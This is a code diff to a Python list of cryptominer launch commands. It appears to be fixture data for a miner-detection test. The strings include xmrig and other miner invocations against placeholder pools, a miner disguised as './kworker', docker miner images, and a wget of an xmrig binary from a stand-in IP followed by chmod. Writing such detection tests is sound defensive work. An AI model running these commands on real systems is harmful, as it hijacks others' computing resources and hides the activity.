@@ -18,7 +18,8 @@ STARTED = [
     "./xmrig-6.21.0/xmrig --config=config.json",
     "sudo nice -n 19 ./lolMiner --algo ETHASH --pool pool.example:4444 --user 0x" + "a" * 40,
     *(f"./{name} -o pool.example:3333 -u wallet -p x" for name in (
-        "gminer", "nbminer", "teamredminer", "PhoenixMiner", "ethminer", "cpuminer", "minerd", "ccminer", "SRBMiner-MULTI",
+        "gminer", "nbminer", "teamredminer", "PhoenixMiner", "ethminer", "cpuminer", "minerd", "ccminer",
+        "SRBMiner-MULTI",
         "bzminer", "rigel", "cpuminer-avx2", "xmrig-cuda", "lolMiner_v1.76",
     )),
     "./kworker -o stratum+tcp://203.0.113.9:3333 -u wallet -p x",
@@ -32,9 +33,9 @@ STARTED = [
     "docker run -d --rm metal3d/xmrig",
     "docker run --gpus all someone/t-rex:latest -a ethash -o stratum+tcp://pool.example:1 -u w",
     "cat > config.json <<E\n{\"pools\": [{\"url\": \"pool.example:3333\", \"user\": \"w\"}], \"donate-level\": 1}\nE",
-    "python3 -c \"import socket; s=socket.create_connection(('pool.example',3333)); s.send(b'x'); m='mining.subscribe'\"",
+    "python3 -c \"import socket; s=socket.create_connection(('pool.example',3333)); m='mining.subscribe'\"",
     "python3 -c \"import subprocess; subprocess.Popen(['./xmrig','-o','pool.example:3333'])\"",
-    "cd /tmp && wget https://files.example/xmrig-6.21.0-linux-static-x64.tar.gz && tar xf xmrig-6.21.0-linux-static-x64.tar.gz",
+    "cd /tmp && wget https://files.example/xmrig-6.21.0-linux-x64.tar.gz && tar xf xmrig-6.21.0-linux-x64.tar.gz",
     "wget http://203.0.113.5/xmrig; chmod +x xmrig",
 ]  # fmt: skip
 
